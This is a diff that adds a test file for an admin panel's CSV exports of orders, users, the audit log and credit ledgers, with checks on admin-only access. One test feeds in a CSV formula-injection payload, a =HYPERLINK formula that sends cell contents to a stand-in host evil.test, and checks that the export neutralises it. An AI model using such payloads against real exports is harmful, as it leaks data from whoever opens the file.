@@ -1,0 +1,120 @@
+import { parse } from 'csv-parse/sync';
+import { call, type Persona, signUp, startTestApi, type TestApi, unique } from './support/test-api';
+
+let api: TestApi;
+let admin: Persona;
+let buyer: Persona;
+const adminEmail = `export-admin-${unique()}@coldmail.test`;
+// What a hostile buyer types as their name, hoping an admin opens the export in a spreadsheet.
+const HOSTILE = '=HYPERLINK("https://evil.test/?"&A1,"Click")';
+const tag = unique();
+
+beforeAll(async () => {
+  api = await startTestApi({ ADMIN_EMAILS: adminEmail });
+  admin = await signUp(api, 'admin', { email: adminEmail });
+  buyer = await signUp(api, 'buyer');
+  const pkg = await call<{ _id: string }>(api, 'POST', '/add-package', {
+    token: admin.token,
+    json: { packageName: `Export ${tag}`, price: 12.5, credit: 40, validity: 30 },
+  });
+  for (const customerName of [HOSTILE, `Ada ${tag}`, '-2+3', '@SUM(A1:A2)']) {
+    const placed = await call(api, 'POST', '/new-order', {
+      token: buyer.token,
+      json: { packageId: pkg.body._id, customerName, address: '1 Loop Road', country: 'France' },
+    });
+    expect(placed.status).toBe(201);
+  }
+});
+afterAll(() => api.close());
+
+/** The export as a spreadsheet reads it: a header row, then one object per row. */
+async function exported(path: string, token = admin.token) {
+  const response = await call(api, 'GET', path, { token });
+  expect(response.status).toBe(200);
+  expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
+  expect(response.headers.get('content-disposition')).toMatch(
+    /^attachment; filename="[a-z-]+-\d{4}-\d{2}-\d{2}\.csv"$/,
+  );
+  return parse(response.text, { bom: true, columns: true }) as Record<string, string>[];
+}
+
+describe('CSV export of the admin lists (?format=csv)', () => {
+  it('exports every order the search selects, in the table’s order, not one page', async () => {
+    const rows = await exported(
+      `/api/orders?format=csv&q=${encodeURIComponent(`Export ${tag}`)}&sort=customerName&dir=asc&pageSize=1`,
+    );
+    expect(rows).toHaveLength(4);
+    expect(rows[0]).toMatchObject({
+      Package: `Export ${tag}`,
+      Total: '12.50',
+      Currency: 'USD',
+      'Payment status': 'pending',
+      Credits: '40',
+    });
+    expect(rows.map((row) => row['Order ID'])).toEqual(
+      expect.arrayContaining([expect.stringMatching(/^[A-Z0-9]{8}$/)]),
+    );
+  });
+
+  it('neutralises cells a spreadsheet would run as a formula', async () => {
+    const rows = await exported(
+      `/api/orders?format=csv&q=${encodeURIComponent(`Export ${tag}`)}&sort=customerName&dir=asc`,
+    );
+    const names = rows.map((row) => row.Customer);
+    expect(names).toEqual(
+      expect.arrayContaining([`'${HOSTILE}`, "'-2+3", "'@SUM(A1:A2)", `Ada ${tag}`]),
+    );
+    expect(names.filter((name) => /^[=+\-@]/.test(name))).toEqual([]);
+  });
+
+  it('exports the users, the audit log and a user’s credit ledger', async () => {
+    const users = await exported(`/api/users?format=csv&q=${encodeURIComponent(buyer.email)}`);
+    expect(users).toEqual([
+      expect.objectContaining({ 'E-mail': buyer.email, Role: 'member', Credits: '0' }),
+    ]);
+    const audit = await exported('/api/audit-log?format=csv&action=package.create');
+    expect(audit[0]).toMatchObject({
+      Admin: adminEmail,
+      Action: 'package.create',
+      Target: `Export ${tag}`,
+    });
+    const adjusted = await call(api, 'PUT', `/api/users/${buyer.id}`, {
+      token: admin.token,
+      json: { currentBalance: 7, previousBalance: 0 },
+    });
+    expect(adjusted.status).toBe(200);
+    const ledger = await exported(`/api/credits/history?format=csv&userId=${buyer.id}`);
+    expect(ledger).toEqual([
+      expect.objectContaining({
+        Change: '7',
+        Reason: 'admin-adjustment',
+        'Balance after': '7',
+        'Adjusted by': adminEmail,
+      }),
+    ]);
+    // The buyer exports their own ledger, without who adjusted it.
+    const own = await exported('/api/credits/history?format=csv', buyer.token);
+    expect(own).toEqual([expect.objectContaining({ Change: '7', 'Adjusted by': '' })]);
+  });
+
+  it('is for admins only, checks its query, and changes nothing', async () => {
+    for (const path of ['/api/orders', '/api/item-orders', '/api/users', '/api/audit-log']) {
+      expect((await call(api, 'GET', `${path}?format=csv`)).status).toBe(401);
+      expect((await call(api, 'GET', `${path}?format=csv`, { token: buyer.token })).status).toBe(
+        403,
+      );
+      const wrong = await call(api, 'GET', `${path}?format=xlsx`, { token: admin.token });
+      expect(wrong.status).toBe(400);
+    }
+    const others = await call(
+      api,
+      'GET',
+      `/api/credits/history?format=csv&userId=${'a'.repeat(24)}`,
+      {
+        token: buyer.token,
+      },
+    );
+    expect(others.status).toBe(403);
+    expect(others.headers.get('content-type')).toContain('application/json');
+  });
+});
